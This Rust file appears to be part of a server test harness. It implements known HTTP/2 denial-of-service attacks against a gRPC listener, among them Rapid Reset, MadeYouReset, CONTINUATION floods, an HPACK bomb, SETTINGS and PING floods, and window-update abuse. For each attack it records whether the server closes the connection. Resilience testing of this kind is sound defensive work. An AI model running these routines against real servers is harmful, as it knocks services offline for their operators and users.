//! The named HTTP/2 attacks on the gRPC listener, each a function that runs it on one
//! connection and returns what the server did.

use crate::frames::*;
use crate::target::{Conn, Target, Wire};
use std::time::{Duration, Instant};
use tokio::io::{AsyncWriteExt, ReadHalf, WriteHalf};

/// How long an attack keeps going when the server lets it.
pub const ATTACK_TIME: Duration = Duration::from_secs(4);

/// What one attacking connection achieved.
#[derive(Clone, Debug, Default)]
pub struct Attacked {
    /// What the server sent.
    pub seen: Seen,
    /// Streams the attacker opened.
    pub streams: u32,
    /// Bytes the attacker managed to write.
    pub sent: u64,
    /// How long after the attack began the server closed the connection.
    pub closed_after: Option<Duration>,
}

/// An attack run connection after connection for `time`: each run's outcome.
#[derive(Clone, Debug, Default)]
pub struct Sustained(pub Vec<Attacked>);

impl Sustained {
    /// Runs `attack` again and again for `time` (at least once).
    pub async fn run<F: std::future::Future<Output = Attacked>>(
        time: Duration,
        mut attack: impl FnMut() -> F,
    ) -> Sustained {
        let end = Instant::now() + time;
        let mut runs = vec![attack().await];
        while Instant::now() < end {
            runs.push(attack().await);
        }
        Sustained(runs)
    }

    /// The first run that fails `check`, with why.
    pub fn each(&self, check: impl Fn(&Attacked) -> Result<(), String>) -> Result<(), String> {
        for (i, run) in self.0.iter().enumerate() {
            check(run).map_err(|e| format!("connection {} of {}: {e}", i + 1, self.0.len()))?;
        }
        Ok(())
    }
}

/// An HTTP/2 connection past the preface and the client's SETTINGS.
pub struct H2 {
    pub write: WriteHalf<Conn>,
    read: Option<ReadHalf<Conn>>,
    pub tls: bool,
    pub started: Instant,
    pub sent: u64,
    pub streams: u32,
    next: u32,
}

impl H2 {
    /// Connects, sends the preface and `settings`.
    pub async fn open(target: &Target, settings_pairs: &[(u16, u32)]) -> H2 {
        let conn = target.connect(target.grpc(), b"h2").await;
        let (read, mut write) = tokio::io::split(conn);
        let mut hello = PREFACE.to_vec();
        hello.extend(settings(settings_pairs));
        write.write_all(&hello).await.expect("preface");
        H2 {
            write,
            read: Some(read),
            tls: target.wire == Wire::Tls,
            started: Instant::now(),
            sent: hello.len() as u64,
            streams: 0,
            next: 1,
        }
    }

    /// Starts reading the server's frames (an attacker that never reads skips this).
    pub fn watch(&mut self) -> std::sync::Arc<std::sync::Mutex<Seen>> {
        watch(self.read.take().expect("read half"))
    }

    /// The next client stream id.
    pub fn stream(&mut self) -> u32 {
        let id = self.next;
        self.next += 2;
        self.streams += 1;
        id
    }

    /// Writes `bytes` unless the attack time is over or the server closed.
    pub async fn send(&mut self, bytes: &[u8]) -> bool {
        let ok = send(&mut self.write, bytes, self.started + ATTACK_TIME).await;
        if ok {
            self.sent += bytes.len() as u64;
        }
        ok
    }

    /// The frames of a gRPC call's request: headers and an empty message.
    pub fn call(&mut self, path: &str) -> Vec<u8> {
        let id = self.stream();
        let mut out = frame(HEADERS, END_HEADERS, id, &Block::grpc(path, self.tls).0);
        out.extend(frame(DATA, END_STREAM, id, &EMPTY_MESSAGE));
        out
    }

    fn done(self, seen: Seen) -> Attacked {
        Attacked {
            closed_after: seen
                .closed
                .map(|c| c.saturating_duration_since(self.started)),
            seen,
            streams: self.streams,
            sent: self.sent,
        }
    }
}

/// Waits for the server to close after the attack, at most `within`.
async fn closing(
    h2: H2,
    seen: &std::sync::Arc<std::sync::Mutex<Seen>>,
    within: Duration,
) -> Attacked {
    let seen = until(seen, within, |s| s.closed.is_some()).await;
    h2.done(seen)
}

/// Writes streams of `per_stream`'s frames, 200 a write, as fast as the socket takes
/// them, until the server closes (or the attack time is over).
async fn stream_storm(target: &Target, per_stream: impl Fn(u32, &[u8]) -> Vec<u8>) -> Attacked {
    let mut h2 = H2::open(target, &[]).await;
    let seen = h2.watch();
    let headers = Block::grpc(LIST_BUNDLES, h2.tls).0;
    loop {
        let mut batch = Vec::new();
        for _ in 0..200 {
            batch.extend(per_stream(h2.stream(), &headers));
        }
        if !h2.send(&batch).await || seen.lock().expect("seen").closed.is_some() {
            break;
        }
    }
    closing(h2, &seen, Duration::from_secs(2)).await
}

/// CVE-2023-44487: open a stream and reset it at once, as fast as the socket takes it.
pub async fn rapid_reset(target: &Target) -> Attacked {
    stream_storm(target, |id, headers| {
        let mut out = frame(HEADERS, END_HEADERS, id, headers);
        out.extend(rst_stream(id, CANCEL));
        out
    })
    .await
}

/// MadeYouReset (CVE-2025-8671) class: streams the client makes the server reset, as
/// fast as the socket takes them — here calls past `SETTINGS_MAX_CONCURRENT_STREAMS`,
/// held open, each of which the server must refuse with RST_STREAM REFUSED_STREAM. (A
/// zero WINDOW_UPDATE on a stream, the other classic trigger, already ends the whole
/// connection with PROTOCOL_ERROR in h2; a request without `:path` is answered.)
pub async fn made_you_reset(target: &Target) -> Attacked {
    stream_storm(target, |id, headers| {
        frame(HEADERS, END_HEADERS, id, headers)
    })
    .await
}

/// CVE-2024-27316 class: a header block that never ends, CONTINUATION after
/// CONTINUATION, each full of new headers.
pub async fn continuation_flood(target: &Target) -> Attacked {
    let mut h2 = H2::open(target, &[]).await;
    let seen = h2.watch();
    let id = h2.stream();
    let first = frame(HEADERS, 0, id, &Block::grpc(LIST_BUNDLES, h2.tls).0);
    let mut block = Block::default();
    for i in 0..150 {
        block = block.literal(&format!("x-flood-{i}"), &[b'a'; 100]);
    }
    let more = frame(CONTINUATION, 0, id, &block.0);
    let mut ok = h2.send(&first).await;
    while ok && seen.lock().expect("seen").closed.is_none() {
        ok = h2.send(&more).await;
    }
    closing(h2, &seen, Duration::from_secs(2)).await
}

/// An HPACK bomb: one 4 KB header put in the dynamic table, then header blocks that
/// name it thousands of times (one byte each), on stream after stream.
pub async fn hpack_bomb(target: &Target) -> Attacked {
    let mut h2 = H2::open(target, &[]).await;
    let seen = h2.watch();
    let mut first = true;
    loop {
        let mut block = Block::grpc(LIST_BUNDLES, h2.tls);
        if first {
            block = block.indexing("x-bomb", &[b'b'; 4000]);
            first = false;
        }
        // 62 is the newest dynamic entry; the literals before it are not indexed
        block.0.extend(std::iter::repeat_n(0x80 | 62, 8000));
        let id = h2.stream();
        let bytes = frame(HEADERS, END_HEADERS | END_STREAM, id, &block.0);
        if !h2.send(&bytes).await || seen.lock().expect("seen").closed.is_some() {
            break;
        }
    }
    closing(h2, &seen, Duration::from_secs(2)).await
}

/// A SETTINGS flood from a client that never reads the ACKs.
pub async fn settings_flood(target: &Target) -> Attacked {
    flood(target, settings(&[(INITIAL_WINDOW_SIZE, 65_535)])).await
}

/// A PING flood from a client that never reads the answers.
pub async fn ping_flood(target: &Target) -> Attacked {
    flood(target, frame(PING, 0, 0, &[7; 8])).await
}

/// Writes `one` frame over and over, reading nothing, until the server closes,
/// stops reading (the write blocks) or the attack time is over.
async fn flood(target: &Target, one: Vec<u8>) -> Attacked {
    let mut h2 = H2::open(target, &[]).await;
    let batch: Vec<u8> = one.iter().copied().cycle().take(one.len() * 1000).collect();
    while h2.send(&batch).await {}
    // now read what the server says about it
    let seen = h2.watch();
    closing(h2, &seen, Duration::from_secs(2)).await
}

/// A client that grants no window (SETTINGS_INITIAL_WINDOW_SIZE 0) and opens calls
/// with large replies: the server can send nothing, and must not keep them forever.
pub async fn zero_window(target: &Target, wait: Duration) -> Attacked {
    let mut h2 = H2::open(target, &[(INITIAL_WINDOW_SIZE, 0)]).await;
    let seen = h2.watch();
    let mut calls = Vec::new();
    for _ in 0..50 {
        calls.extend(h2.call(LIST_BUNDLES));
    }
    h2.send(&calls).await;
    closing(h2, &seen, wait).await
}

/// A client that opens calls with large replies and never reads the socket at all.
pub async fn unread_streams(target: &Target, wait: Duration) -> Attacked {
    let mut h2 = H2::open(target, &[]).await;
    let mut calls = Vec::new();
    for _ in 0..50 {
        calls.extend(h2.call(LIST_BUNDLES));
    }
    h2.send(&calls).await;
    // reading nothing until the stall timeout has passed, then see if it was closed
    tokio::time::sleep(wait).await;
    let seen = h2.watch();
    closing(h2, &seen, Duration::from_secs(2)).await
}

/// Window-update abuse: a stream's window pushed past 2³¹−1 (a stream error), then a
/// storm of one-byte updates, then the connection's window past 2³¹−1.
pub async fn window_overflow(target: &Target) -> Attacked {
    let mut h2 = H2::open(target, &[]).await;
    let seen = h2.watch();
    let call = h2.call(LIST_BUNDLES);
    let id = h2.streams * 2 - 1;
    let mut bytes = call;
    bytes.extend(window_update(id, 0x7fff_ffff));
    bytes.extend(window_update(id, 0x7fff_ffff));
    for _ in 0..20_000 {
        bytes.extend(window_update(0, 1));
    }
    bytes.extend(window_update(0, 0x7fff_ffff));
    h2.send(&bytes).await;
    closing(h2, &seen, Duration::from_secs(2)).await
}

/// A WINDOW_UPDATE of 0 on the connection (RFC 9113 §6.9: a connection error).
pub async fn zero_window_update(target: &Target) -> Attacked {
    let mut h2 = H2::open(target, &[]).await;
    let seen = h2.watch();
    h2.send(&window_update(0, 0)).await;
    closing(h2, &seen, Duration::from_secs(2)).await
}

/// One header of 64 KiB, past the 16 KiB header list limit, sent in CONTINUATIONs;
/// then another call on the same connection.
pub async fn oversized_headers(target: &Target) -> Attacked {
    let mut h2 = H2::open(target, &[]).await;
    let seen = h2.watch();
    let id = h2.stream();
    let block = Block::grpc(LIST_BUNDLES, h2.tls)
        .literal("x-huge", &[b'h'; 64 * 1024])
        .0;
    let mut bytes = Vec::new();
    let mut chunks = block.chunks(16 * 1024).peekable();
    let mut kind = HEADERS;
    while let Some(chunk) = chunks.next() {
        let flags = if chunks.peek().is_none() {
            END_HEADERS | END_STREAM
        } else {
            0
        };
        bytes.extend(frame(kind, flags, id, chunk));
        kind = CONTINUATION;
    }
    h2.send(&bytes).await;
    closing(h2, &seen, Duration::from_secs(2)).await
}
